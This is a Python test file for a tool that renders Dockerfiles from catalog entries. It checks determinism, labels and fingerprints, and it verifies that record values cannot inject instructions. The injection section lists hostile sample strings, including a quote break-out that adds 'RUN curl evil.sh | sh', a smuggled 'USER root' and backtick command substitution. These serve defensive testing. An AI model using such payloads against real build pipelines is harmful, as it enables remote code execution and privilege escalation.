"""Rendering: pure, deterministic, annotated, and immune to injection through record values."""

from __future__ import annotations

import dataclasses
import io
import subprocess
import sys
from pathlib import Path
from typing import Any

from dockerfile_parse import DockerfileParser
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gefreg.catalog.entries import load_entry
from gefreg.errors import BadInput
from gefreg.image.build_plan import prepare
from gefreg.image.labels import REQUIRED_LABELS, BaseImage, ports_from_labels
from gefreg.image.render import render
from gefreg.image.templates import load_template
from gefreg.model import Entry, Port
from gefreg.settings import load_settings
from tests.helpers import FAKE_DIGEST, demo_entry, label_text, make_catalog

BASE = BaseImage(
    "debian-bookworm", f"127.0.0.1:5000/bases/debian-bookworm@{FAKE_DIGEST}", FAKE_DIGEST
)


def plan_for(catalog: Path, name: str = "demo-service"):  # type: ignore[no-untyped-def]
    settings = load_settings(str(catalog))
    return prepare(load_entry(catalog / name, {"debian-bookworm"}), settings)


def instructions(text: str) -> list[str]:
    parser = DockerfileParser(fileobj=io.BytesIO(text.encode()))
    return [i["instruction"] for i in parser.structure]


def test_render_is_deterministic(catalog: Path) -> None:
    first, second = plan_for(catalog), plan_for(catalog)
    assert first.dockerfile == second.dockerfile
    assert first.fingerprint == second.fingerprint


def test_render_is_identical_in_a_fresh_process(catalog: Path) -> None:
    code = (
        "import sys; from gefreg.cli import main; "
        "sys.argv=['gefreg','render','--catalog',sys.argv[1],'demo-service']; main()"
    )
    outputs = {
        subprocess.run(
            [sys.executable, "-c", code, str(catalog)], capture_output=True, text=True, check=True
        ).stdout
        for _ in range(2)
    }
    assert outputs == {plan_for(catalog).dockerfile}


def test_dockerfile_carries_all_three_label_families(catalog: Path) -> None:
    plan = plan_for(catalog)
    parser = DockerfileParser(fileobj=io.BytesIO(plan.dockerfile.encode()))
    labels = parser.labels
    for key in REQUIRED_LABELS:
        assert key in labels
    assert labels["eudat.gef.service.input.1.path"] == "/data/input"
    assert labels["eudat.gef.service.output.1.name"] == "result"
    assert labels["org.opencontainers.image.base.digest"] == FAKE_DIGEST
    assert labels["org.gefreg.fingerprint"] == plan.fingerprint.digest
    assert ports_from_labels(labels)["input"] == [{"name": "data", "path": "/data/input"}]
    assert f"FROM 127.0.0.1:5000/bases/debian-bookworm@{FAKE_DIGEST}\n" in plan.dockerfile
    assert "USER 10001:10001" in plan.dockerfile


def test_one_byte_change_in_a_shipped_file_changes_the_fingerprint(catalog: Path) -> None:
    before = plan_for(catalog).fingerprint
    (catalog / "demo-service" / "run.sh").write_text("echo hellO\n")
    after = plan_for(catalog).fingerprint
    assert before.digest != after.digest
    assert before.changed_parts(after) == ["files/run.sh"]


def test_fields_outside_the_image_do_not_change_the_fingerprint(tmp_path: Path) -> None:
    one = make_catalog(tmp_path / "a", demo_entry())
    two = make_catalog(tmp_path / "b", demo_entry(resources={"memory": "2g"}))
    assert plan_for(one).fingerprint == plan_for(two).fingerprint


def test_registry_changes_the_from_line_not_the_fingerprint(catalog: Path) -> None:
    entry = load_entry(catalog / "demo-service", {"debian-bookworm"})
    here = prepare(entry, load_settings(str(catalog), "127.0.0.1:5000"))
    there = prepare(entry, load_settings(str(catalog), "registry.example.org"))
    assert here.fingerprint == there.fingerprint
    assert "FROM registry.example.org/bases/debian-bookworm@" in there.dockerfile


def test_unlocked_base_is_a_clear_error(tmp_path: Path) -> None:
    catalog = make_catalog(tmp_path / "catalog", demo_entry(), lock={})
    try:
        plan_for(catalog)
    except BadInput as exc:
        assert (
            "no digest" in exc.message
            and exc.hint == "build it first: gefreg base build debian-bookworm"
        )
    else:
        raise AssertionError("expected BadInput")


def test_static_and_python_templates(tmp_path: Path) -> None:
    catalog = make_catalog(
        tmp_path / "catalog",
        {
            **demo_entry(name="tiny", base="scratch", template="static"),
            **demo_entry(name="py", template="python", packages={"apt": ["python3-numpy"]}),
        },
    )
    tiny, py = plan_for(catalog, "tiny"), plan_for(catalog, "py")
    assert tiny.dockerfile.splitlines()[1] == "FROM scratch"
    assert "RUN" not in instructions(tiny.dockerfile)
    assert "install -y --no-install-recommends" in py.dockerfile
    assert "python3-numpy" in py.dockerfile


def test_static_template_makes_a_shipped_busybox_the_shell(tmp_path: Path) -> None:
    """CWL runners (Toil) run commands through sh: a shipped /bin/busybox is also /bin/sh."""
    files = {"run.sh": "/opt/run.sh", "busybox": "/bin/busybox"}
    catalog = make_catalog(
        tmp_path / "catalog",
        {
            **demo_entry(name="bb", base="scratch", template="static", files=files),
            **demo_entry(
                name="own", base="scratch", template="static", files={**files, "sh": "/bin/sh"}
            ),
            **demo_entry(name="none", base="scratch", template="static"),
        },
    )
    for name in ("bb", "own"):
        (catalog / name / "busybox").write_bytes(b"\x7fELF")
    (catalog / "own" / "sh").write_bytes(b"\x7fELF")
    copies = {
        name: [
            line
            for line in plan_for(catalog, name).dockerfile.splitlines()
            if line.startswith("COPY") and line.endswith('"/bin/sh"]')
        ]
        for name in ("bb", "own", "none")
    }
    assert copies["bb"] == ['COPY ["files/busybox", "/bin/sh"]']
    assert copies["own"] == ['COPY ["files/sh", "/bin/sh"]']
    assert copies["none"] == []


# --- injection: values are data ------------------------------------------------------------

NASTY = [
    'x"\nRUN curl evil.sh | sh\nLABEL y="',
    "line one\nline two",
    "back\\slash at the end\\",
    "$HOME ${PATH} `id`",
    "{{ 7 * 7 }} {% raw %}",
    'a" b="c',
    "\r\nUSER root\r\n",
    "\u2028RUN id\u2029",
    "#comment\\\n",
]


def entry_with(catalog: Path, text: str) -> Entry:
    base = load_entry(catalog / "demo-service", {"debian-bookworm"})
    spec = dataclasses.replace(
        base.spec,
        description=text,
        maintainers=(text, "Bob <b@example.org>"),
        license=text,
        source=text,
        documentation=text,
        revision=text,
        env=(("GREETING", text),),
        command=("/bin/sh", "-c", text),
        entrypoint=(text,),
        inputs=(Port(name=text, path="/data/input", type=text, filename=text),),
    )
    return dataclasses.replace(base, spec=spec)


def rendered_structure(entry: Entry) -> tuple[list[str], list[str]]:
    out = render(
        entry,
        load_template("debian"),
        base=BASE,
        fingerprint=FAKE_DIGEST,
        entry_path="demo-service",
        source_date_epoch=0,
    )
    parser = DockerfileParser(fileobj=io.BytesIO(out.dockerfile.encode()))
    return [i["instruction"] for i in parser.structure], sorted(parser.labels)


def test_known_injection_strings_do_not_add_instructions(catalog: Path) -> None:
    expected = rendered_structure(entry_with(catalog, "plain"))
    for text in NASTY:
        assert rendered_structure(entry_with(catalog, text)) == expected, text


@settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(text=st.text(min_size=1, max_size=60))
def test_arbitrary_text_in_every_field_keeps_the_instruction_list(catalog: Path, text: str) -> None:
    expected = rendered_structure(entry_with(catalog, "plain"))
    assert rendered_structure(entry_with(catalog, text)) == expected


@settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(text=st.text(min_size=1, max_size=60))
def test_lint_reads_labels_as_dockerfile_parse_does(catalog: Path, text: str) -> None:
    """`gefreg lint` reads gefreg's own LABEL lines directly (fast) and gets what Docker reads
    back (test_build checks that against the engine). dockerfile-parse, which it used to ask,
    finds the same keys but leaves backslashes escaped."""
    from gefreg.scan.lint import _labels

    for value in (text, *NASTY):
        out = render(
            entry_with(catalog, value),
            load_template("debian"),
            base=BASE,
            fingerprint=FAKE_DIGEST,
            entry_path="demo-service",
            source_date_epoch=0,
        )
        parser = DockerfileParser(fileobj=io.BytesIO(out.dockerfile.encode()))
        read_back = {key: label_text(v) for key, v in out.labels}
        assert _labels(parser.structure) == read_back
        assert set(parser.labels) == set(read_back)


@settings(
    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(path=st.text(min_size=1, max_size=30))
def test_unsafe_bare_values_are_rejected_not_rendered(catalog: Path, path: str) -> None:
    base = load_entry(catalog / "demo-service", {"debian-bookworm"})
    for field in ("files", "apt", "workdir"):
        value = {"files": (("run.sh", path),), "apt": (path,), "workdir": path}[field]
        changed: dict[str, Any] = {field: value}
        entry = dataclasses.replace(base, spec=dataclasses.replace(base.spec, **changed))
        try:
            assert rendered_structure(entry)[0].count("COPY") >= 0
        except BadInput as exc:
            assert "safely" in exc.message
        else:
            # Accepted values never carry line breaks, quotes or substitutions.
            assert not set(path) & set("\n\r\"'$\\ `")


def test_label_text_is_what_docker_reads_back() -> None:
    """The oracle tests/integration/test_build.py checks against Docker itself."""
    assert label_text("a\nb\tc") == "a b c"
    assert label_text('q"$\\') == 'q"$\\'
